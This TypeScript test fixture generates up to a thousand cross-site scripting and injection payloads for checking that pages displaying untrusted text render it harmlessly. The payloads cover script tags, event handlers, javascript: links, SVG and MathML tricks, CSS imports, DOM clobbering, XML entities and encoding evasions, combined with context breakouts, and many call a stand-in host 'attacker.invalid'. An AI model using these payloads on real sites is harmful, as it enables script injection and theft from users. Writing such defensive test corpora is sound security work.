/** Texts that try to become markup, run a script or ask for something, for every place where judged text is shown. */

/** The host that payloads call; it does not exist, and no test may see a request to it. */
export const attacker = 'https://attacker.invalid';
/** What a script that runs leaves in the page's window. */
export const mark = 'payloadRan';

/** A script that leaves its mark, opens a dialog and asks for something. */
const script = (number: number) =>
  `window.${mark}=(window.${mark}||0)+1;alert(${number});fetch('${attacker}/${number}')`;

const events = [
  ['img', 'onerror', 'src=x'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['input', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x autoplay'],
  ['marquee', 'onstart', ''],
  ['object', 'onerror', 'data=x'],
  ['div', 'onpointerrawupdate', 'style=position:fixed;inset:0'],
  ['style', 'onload', ''],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['form', 'oninput', ''],
  ['select', 'onfocusin', 'autofocus'],
  ['a', 'onbeforematch', 'hidden=until-found id=x'],
  ['xss', 'onanimationstart', 'style="animation:spin 1s"'],
  ['button', 'onbeforetoggle', 'popovertarget=x'],
  ['dialog', 'onclose', 'open'],
] as const;

/** What stands before and after, to get out of wherever the text is put. */
const breakouts: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', '<a title="'],
  ["'>", "<a title='"],
  ['`>', '<a title=`'],
  ['</title>', '<title>'],
  ['</textarea>', '<textarea>'],
  ['</style>', '<style>'],
  ['</script>', '<script>'],
  ['</summary></details>', '<details><summary>'],
  ['-->', '<!--'],
  ['--!>', '<!--'],
  [']]>', '<![CDATA['],
  ['</svg></math>', '<svg>'],
  ['</noscript>', '<noscript>'],
  ['</template>', '<template>'],
  ['</td></tr></table>', '<table><tr><td>'],
  ['\u2028', '\u2029'],
  ['\0', '\0'],
  ['\u202e', '\u202c'],
  ['&lt;', '&gt;'],
];

/** One text of each kind, by its number. */
const vectors: readonly ((number: number) => string)[] = [
  (number) => `<script>${script(number)}</script>`,
  (number) => `<ScRiPt src="${attacker}/${number}.js"></sCrIpT>`,
  (number) => `<script type=module>import '${attacker}/${number}.js'</script>`,
  (number) => `<script/x>${script(number)}</script/x>`,
  (number) => `<<script>${script(number)}//<</script>`,
  (number) => `<scr<script>ipt>${script(number)}</scr</script>ipt>`,
  (number) => `<scr\0ipt>${script(number)}</scr\0ipt>`,
  ...events.map(
    ([name, handler, rest]) =>
      (number: number) =>
        `<${name} ${rest} ${handler}="${script(number)}">`,
  ),
  (number) => `" autofocus onfocus="${script(number)}" x="`,
  (number) => `' onmouseover='${script(number)}' style='position:fixed;inset:0`,
  (number) => `x onclick=${script(number).replaceAll(' ', '')} y`,
  (number) => `<svg><script>${script(number)}</script></svg>`,
  (number) => `<svg><animate onbegin="${script(number)}" attributeName=x dur=1s>`,
  (number) => `<svg><use href="${attacker}/${number}.svg#x"/></svg>`,
  (number) => `<svg><image href="${attacker}/${number}.png"/></svg>`,
  (number) => `<svg><foreignObject><iframe src="${attacker}/${number}"></iframe></foreignObject></svg>`,
  (number) => `<svg><set attributeName="onmouseover" to="${script(number)}"/></svg>`,
  (number) =>
    `<math><maction actiontype="statusline#${attacker}" xlink:href="javascript:${script(number)}">x</maction></math>`,
  (number) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${script(number)}>">`,
  (number) => `<template><script>${script(number)}</script></template>`,
  (number) => `<div><template shadowrootmode=open><script>${script(number)}</script></template></div>`,
  (number) => `<style>@import '${attacker}/${number}.css';</style>`,
  (number) => `<style>body{background:url(${attacker}/${number}.png)}</style>`,
  (number) => `<div style="background:url(${attacker}/${number}.png)">x</div>`,
  (number) =>
    `}*{background:url(${attacker}/${number})}@font-face{font-family:x;src:url(${attacker}/${number})}`,
  (number) => `<link rel=stylesheet href="${attacker}/${number}.css">`,
  (number) => `<link rel=prefetch href="${attacker}/${number}"><link rel=preconnect href="${attacker}">`,
  (number) => `<a href="javascript:${script(number)}">x</a>`,
  (number) => `<a href=" java\tscript:${script(number)}">x</a>`,
  (number) => `[x](javascript:${script(number)}) ![x](${attacker}/${number}.png)`,
  (number) => `javascript:${script(number)}//`,
  (number) => `data:text/html,<script>${script(number)}</script>`,
  (number) => `<iframe src="javascript:${script(number)}"></iframe>`,
  (number) => `<iframe srcdoc="<script>parent.${mark}=1;parent.alert(${number})</script>"></iframe>`,
  (number) => `<object data="${attacker}/${number}"></object><embed src="${attacker}/${number}">`,
  (number) => `<meta http-equiv=refresh content="0;url=${attacker}/${number}">`,
  (number) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${attacker}/${number}">`,
  (number) => `<base href="${attacker}/${number}/"><a href=x>x</a>`,
  (number) => `<form action="${attacker}/${number}" id=content name=content><input name=attributes></form>`,
  () => '<a id=verdict></a><a id=verdict name=documentElement></a><img name=cookie><form name=body>',
  () => '<a id=rubric-1 href="cid:x"></a><p id="set-up" name="location">',
  (number) => `&lt;script&gt;${script(number)}&lt;/script&gt;`,
  (number) => `&#60;script&#62;${script(number)}&#60;/script&#62;`,
  (number) => `&#x3c;img src=x onerror=${script(number)}&#x3e`,
  (number) => `+ADw-script+AD4-${script(number)}+ADw-/script+AD4-`,
  (number) => `\u00bcscript\u00be${script(number)}\u00bc/script\u00be`,
  (number) => `\uff1cscript\uff1e${script(number)}\uff1c/script\uff1e`,
  (number) => `\ud800<script>${script(number)}</script>\udc00`,
  (number) => `<!--<script>${script(number)}</script>-->`,
  (number) => `<![CDATA[<script>${script(number)}</script>]]>`,
  (number) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "${attacker}/${number}">]>&y;`,
  (number) => `{{constructor.constructor('${mark}')()}}\${${script(number)}}<%= ${number} %>`,
  (number) => `__proto__[onload]=${script(number)}`,
  (number) => `<plaintext><xmp><listing>${script(number)}`,
  (number) => `<portal src="${attacker}/${number}"></portal><frameset onload="${script(number)}">`,
  (number) =>
    `<img srcset="${attacker}/${number}.png 1x" loading=eager><picture><source srcset="${attacker}/${number}">`,
  (number) => `<video poster="${attacker}/${number}"><track src="${attacker}/${number}" default>`,
  (number) => `<body background="${attacker}/${number}"><table background="${attacker}/${number}">`,
  (number) =>
    `<a ping="${attacker}/${number}" href=#>x</a><button formaction="javascript:${script(number)}">x</button>`,
  // What a page's policy allows, as it is of its own server.
  (number) => `<script src=/payload-${number}.js></script><link rel=stylesheet href=/payload-${number}.css>`,
  (number) => `<img src=/payload-${number}.png><object data=/payload-${number}></object>`,
  (number) =>
    `<form action=/payload-${number}><button autofocus onfocus="${script(number)}">go</button></form>`,
  () => '<dialog open><h1>Trusted</h1></dialog><x-payload onclick=alert(1)>x</x-payload>',
  () => '\u202egnp.exe\u2066 \u2067 \u200b\ufeff\u00ad\u{e0041}\u009b2J\u001b]0;x\u0007\r',
];

/** The first `count` payloads, all different: each kind by itself, then each behind each breakout. */
export function payloads(count = 1000): string[] {
  const made: string[] = [];
  for (const [before, after] of breakouts)
    for (const vector of vectors) {
      if (made.length === count) return made;
      made.push(`${before}${vector(made.length)}${after}`);
    }
  // Beyond that, numbers make them different.
  for (let number = 0; made.length < count; number++)
    made.push(`${vectors[number % vectors.length]?.(made.length)}`);
  return made;
}

/** The same, each behind its number: which are shown is read from the text of a page. */
export function numberedPayloads(count = 1000): string[] {
  return payloads(count).map((payload, number) => `p${number} ${payload}`);
}
